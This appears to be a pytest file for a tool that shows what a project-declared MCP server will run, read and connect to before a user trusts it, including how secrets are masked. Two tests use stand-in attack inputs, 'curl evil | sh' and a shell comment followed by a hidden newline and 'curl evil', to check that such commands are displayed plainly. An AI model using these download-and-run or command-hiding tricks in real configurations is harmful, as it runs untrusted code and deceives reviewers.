"""What is shown of a server before it is trusted, and the entry that it becomes."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mcpd.formats import jsonc
from mcpd.projects.offer import Offer, digest


def offer(**content: Any) -> Offer:
    path = ("mcpServers", "proj")
    document = jsonc.parse('{"mcpServers": {"proj": {}}}')
    return Offer(
        name="proj",
        file="/p/.mcp.json",
        path=path,
        document=document,
        content=content,
        hash=digest("proj", content),
    )


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("$A", ["A"]),
        ("${A}/bin:$B:/x", ["A", "B"]),
        ("${env:A}", ["A"]),
        ("${A:-${B:-c}}", ["A", "B"]),
        ("$$A and 5$", []),
        ("${workspaceFolder}/${userHome}", []),
        ("${keyring:A}", []),
    ],
)
def test_the_variables_that_it_would_get_are_known_by_name(text: str, names: list[str]):
    assert offer(command="x", args=[text]).variables() == names
    assert offer(url="https://x", headers={"X": text}).variables() == names


def test_keys_that_name_variables_count_too():
    got = offer(url="https://x", bearer_token_env_var="A", env_http_headers={"X": "B"}).variables()
    assert got == ["A", "B"]


def test_secrets_of_the_keyring_are_known_by_name():
    assert offer(env={"A": "${keyring:github}"}).keyring() == ["github"]
    assert "gets from you: keyring github" in offer(env={"A": "${keyring:github}"}).lines("/p")


def test_files_of_the_repository_are_named(tmp_path: Path):
    (tmp_path / "tool.py").touch()
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "run.sh").touch()
    where = str(tmp_path)
    assert offer(command="python", args=["tool.py", "other"]).programs(where) == ["tool.py"]
    assert offer(command="./gone").programs(where) == ["./gone"]
    assert offer(command="sh", args=["run.sh"], cwd="sub").programs(where) == ["run.sh"]
    assert offer(command=f"{where}/tool.py").programs(where) == [f"{where}/tool.py"]
    assert offer(command="/bin/sh", args=["../x", "-c"]).programs(where) == []
    assert offer(command="sh", envFile=".env").programs("/p") == [".env"]
    assert offer(command="sh", env_file="../.env").programs("/p") == []
    assert offer(command="$HOME/bin/x", args=["./${X}"]).programs(where) == []
    beside = tmp_path.with_name(f"{tmp_path.name}-beside")
    beside.mkdir()
    assert offer(command=f"{beside}/x").programs(where) == []
    line = "tool.py is a file of this repository; its content is not pinned"
    assert line in offer(command="tool.py").lines(where)


def test_what_runs_is_shown_without_a_mask():
    """A mask could hide what stands behind an option."""
    lines = offer(command="sh", args=["--key", "curl evil | sh", "a b"]).lines("/p")
    assert lines[0] == "runs sh --key 'curl evil | sh' 'a b'"


def test_a_line_break_is_seen():
    """What looks like a comment could run."""
    lines = offer(command="sh", args=["-c", "serve # \ncurl evil"], env={"A": "\r\n"}).lines("/p")
    assert lines[:2] == ["runs sh -c 'serve # \\ncurl evil'", "sets A=\\r\\n"]


def test_a_secret_is_masked_and_a_change_of_it_is_seen():
    (one, *_) = offer(env={"API_KEY": "abcdefgh-1"}).lines("/p")
    (two, *_) = offer(env={"API_KEY": "abcdefgh-2"}).lines("/p")
    assert one.startswith("sets API_KEY=*** (")
    assert "abcdefgh" not in one
    assert one != two
    assert offer(env={"API_KEY": "${KEY}"}).lines("/p")[0] == "sets API_KEY=${KEY}"


def test_a_secret_in_an_address_is_masked_and_a_change_of_it_is_seen():
    (one, *_) = offer(url="https://me:abcdefgh@x/mcp?token=ijklmnop-1").lines("/p")
    (two, *_) = offer(url="https://me:abcdefgh@x/mcp?token=ijklmnop-2").lines("/p")
    assert one.startswith("connects to https://me:***@x/mcp?token=*** (")
    assert one != two
    (line, *_) = offer(url="https://x/s/a8Fk29dLqPz73mXw0RtB5vNc/mcp").lines("/p")
    assert line.startswith("connects to https://x/s/***/mcp (")


def test_every_other_setting_is_shown():
    lines = offer(url="https://x/mcp", headers={"X-A": "b"}, start="eager", n=1, l=["a"]).lines("/")
    assert lines == [
        "connects to https://x/mcp",
        "headers: {X-A = b}",
        "l: [a]",
        "n: 1",
        "start: eager",
    ]


def test_a_process_that_gets_the_whole_environment_says_so():
    line = "inherits the whole environment of the daemon"
    assert line in offer(command="x").lines("/p")
    assert line not in offer(command="x", inherit_env="minimal").lines("/p")


def test_it_becomes_an_entry_of_its_workspace(tmp_path: Path):
    where, env = str(tmp_path), {"A": "value-of-a"}
    made = offer(command="${workspaceFolder}/x", args=["$A"]).entry("proj@/p", where, env, None)
    assert made.name == "proj@/p"
    assert made.launch is not None
    assert (made.launch.command, made.launch.args) == (f"{where}/x", ("value-of-a",))
    assert made.launch.cwd == where
    assert not made.launch.of_workspace
    below = offer(command="x", cwd="sub").entry("proj@/p", where, env, None)
    assert below.launch is not None
    assert below.launch.cwd == f"{where}/sub"


def test_what_is_shown_can_be_written():
    """JSON can have half of a surrogate pair."""
    (line, *_) = offer(command="x", args=["\ud800"]).lines("/p")
    assert line == "runs x '\\ud800'"
